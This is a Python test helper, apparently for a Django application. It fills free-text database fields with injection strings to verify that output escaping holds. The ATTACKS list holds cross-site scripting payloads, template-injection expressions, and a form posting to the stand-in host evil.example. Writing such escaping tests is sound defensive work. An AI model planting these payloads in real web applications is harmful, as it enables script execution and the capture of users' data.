"""Text that would be markup, script or code if anything forgot to escape it; and the same as harmless letters."""

import re

from django.apps import apps
from django.db import models

ATTACKS = [
    "<script>owned()</script>",
    "<img src=x onerror=owned()>",
    '"><svg/onload=owned()>',
    "' autofocus onfocus=owned() x='",
    '" onmouseover="owned()',
    "</title></textarea><script>owned()</script>",
    "<a href=javascript:owned()>x</a>",
    "javascript:owned()",
    "{{ 7|add:7 }}{% now 'Y' %}${7*7}",
    "<!--><b>--><iframe srcdoc=x>",
    "</script><script>owned()//",
    "<form action=//evil.example><input name=a>",
    "&lt;b&gt;&#60;i&#62;&quot; onclick=owned()",
    "<b hx-get=/x hx-trigger=load>\u2028<i",
]
LONG = "\n".join(ATTACKS)
# Not what people type: keys, codes, addresses that are parts of a link, what is chosen from a list.
TECHNICAL = {"accounts", "privacy", "inmail", "clock", "simulation"}
NOT_TYPED = {"handle", "email", "slug", "password", "language", "country", "key", "fingerprint", "refusal", "to", "ip"}


def harmless(text: str) -> str:
    """As long, with the same spaces and line ends."""
    return re.sub(r"\S", "x", text)


def fields():
    """Every stored field in which people or programs write words of their own."""
    for model in apps.get_models():
        if model._meta.app_label in TECHNICAL:
            for field in model._meta.local_concrete_fields:
                words = isinstance(field, models.CharField | models.TextField) and not field.generated
                free = words and not field.choices and not field.primary_key and not field.unique
                if free and field.name not in NOT_TYPED:
                    yield model, field


def fill(turn: int, as_text=lambda text: text) -> int:
    """Writes as many attacks as fit into every field that can be changed, others each turn; how many fields it was."""
    filled = 0
    for number, (model, field) in enumerate(fields()):
        if model._meta.label in GROWS_ONLY:
            continue
        limit = field.max_length or 10_000
        first = (7 * turn + 3 * number) % len(ATTACKS)
        text = (
            "\n".join(ATTACKS[first:] + ATTACKS[:first])
            if limit > 1_000
            else " ".join(ATTACKS[first:] + ATTACKS)[:limit]
        )
        filled += bool(model._default_manager.update(**{field.name: as_text(text)}))
    return filled


def filled() -> set[str]:
    """The fields of `fields()` in which an attack stands now, as the database says."""
    return {
        f"{model._meta.model_name}.{field.name}"
        for model, field in fields()
        if model._default_manager.filter(**{f"{field.name}__contains": "owned()"}).exists()
    }


# An update cannot reach these: what is to stand in them is added.
GROWS_ONLY = {"inmail.LedgerEntry", "accounts.JournalEntry", "clock.Timeline", "inmail.Policy", "inmail.Heartbeat"}
